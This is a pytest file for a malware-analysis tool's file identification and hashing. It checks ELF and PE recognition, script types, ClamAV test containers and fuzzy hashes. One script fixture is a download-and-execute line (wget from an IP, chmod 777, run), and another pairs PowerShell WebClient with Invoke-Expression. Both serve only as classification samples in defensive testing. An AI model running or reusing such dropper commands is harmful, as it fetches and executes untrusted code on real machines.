"""Identify and hashes on real files: PE kinds, ELF CPUs, scripts, archives, documents."""

from __future__ import annotations

import hashlib
import os
from pathlib import Path

import pytest

from cleancenter.analyze.hashes import compute_hashes, ssdeep_available, tlsh_distance
from cleancenter.analyze.identify import identify
from cleancenter.demo import windows_launchers
from tests.material import busybox_elfs, libwine_pe

CLAMAV = Path("/usr/share/clamav-testfiles")

BUSYBOX_CPUS = {
    "amd64": ("x86-64", 64, "little"), "i386": ("x86", 32, "little"),
    "arm64": ("aarch64", 64, "little"), "armel": ("arm", 32, "little"),
    "armhf": ("arm", 32, "little"), "mipsel": ("mipsel", 32, "little"),
    "mips64el": ("mips64el", 64, "little"), "ppc64el": ("powerpc64le", 64, "little"),
    "s390x": ("s390x", 64, "big"),
}


def test_elf_cpus_of_busybox_for_every_debian_architecture() -> None:
    found = busybox_elfs()
    assert set(found) == set(BUSYBOX_CPUS)
    for arch, path in found.items():
        ident = identify(path.read_bytes())
        assert (ident.kind, ident.cpu, ident.bits, ident.endianness) == (
            "elf", *BUSYBOX_CPUS[arch]), arch


def test_pe_kinds_from_launchers_and_wine() -> None:
    launchers = {p.name: p for p in windows_launchers()}
    if not launchers:
        pytest.skip("no launchers")
    expected = {"w32.exe": ("x86", 32), "t64.exe": ("x86-64", 64),
                "w64-arm.exe": ("aarch64", 64)}
    for name, (cpu, bits) in expected.items():
        ident = identify(launchers[name].read_bytes())
        assert (ident.kind, ident.subtype, ident.cpu, ident.bits) == ("pe", "exe", cpu, bits)
    dlls = [p for p in libwine_pe() if p.suffix == ".dll"][:20]
    assert dlls and all(identify(p.read_bytes()).subtype == "dll" for p in dlls)
    # Wine's .sys files: the native-subsystem ones are drivers (libmagic, an independent
    # reader, says "(native)"); some are plain console DLLs
    sys_files = [identify(p.read_bytes()) for p in libwine_pe() if p.suffix == ".sys"]
    native = [i for i in sys_files if i.magic and "(native)" in i.magic]
    assert native and all(i.subtype == "driver" for i in native)
    assert all(i.subtype != "driver" for i in sys_files if i not in native)


@pytest.mark.parametrize(
    ("text", "subtype"),
    [
        (b"#!/bin/sh\ncd /tmp\n", "sh"),
        (b"#!/usr/bin/env bash\necho hi\n", "sh"),
        (b"#!/usr/bin/python3\nprint(1)\n", "py"),
        (b"$wc = New-Object System.Net.WebClient\nInvoke-Expression $x\n", "ps1"),
        (b"Set o = CreateObject(\"WScript.Shell\")\nDim x\n", "vbs"),
        (b"@echo off\r\nset X=1\r\n", "bat"),
        (b"var s = new ActiveXObject('WScript.Shell');\n", "js"),
        (b"cd /tmp; wget http://198.51.100.7/x; chmod 777 x; ./x\n", "sh"),
    ],
)
def test_scripts(text: bytes, subtype: str) -> None:
    ident = identify(text)
    assert (ident.kind, ident.subtype) == ("script", subtype)


@pytest.mark.parametrize(
    ("name", "kind", "subtype"),
    [
        ("clam.zip", "archive", "zip"), ("clam.7z", "archive", "7z"),
        ("clam.tar.gz", "archive", "gzip"), ("clam.cab", "archive", "cab"),
        ("clam.newc.cpio", "archive", "cpio"), ("clam.pdf", "document", "pdf"),
        ("clam.ole.doc", "document", "ole"), ("clam.exe.rtf", "document", "rtf"),
        ("clam.exe", "pe", "exe"),
    ],
)
def test_clamav_containers(name: str, kind: str, subtype: str) -> None:
    path = CLAMAV / name
    if not path.is_file():
        pytest.skip(f"{path} not installed (Debian clamav-testfiles)")
    ident = identify(path.read_bytes())
    assert (ident.kind, ident.subtype) == (kind, subtype)
    assert ident.magic  # libmagic's opinion is kept beside ours


def test_data_and_empty() -> None:
    assert identify(b"").kind == "empty"
    assert identify(os.urandom(4096)).kind == "data"
    assert identify(b"MZ" + bytes(100)).subtype == "mz"


def test_hashes() -> None:
    data = Path("/usr/bin/ls").read_bytes()
    h = compute_hashes(data, imphash="abc")
    assert (h.md5, h.sha1, h.sha256, h.size) == (
        hashlib.md5(data).hexdigest(), hashlib.sha1(data).hexdigest(),
        hashlib.sha256(data).hexdigest(), len(data))
    assert h.imphash == "abc"
    assert h.tlsh and h.tlsh.startswith("T1")
    if ssdeep_available():
        assert h.ssdeep and h.ssdeep.count(":") == 2
    small = compute_hashes(b"tiny")
    assert small.tlsh is None
    variant = bytearray(data)
    variant[1000:1010] = b"0123456789"
    other = compute_hashes(bytes(variant))
    assert other.tlsh and tlsh_distance(h.tlsh, other.tlsh) < 20
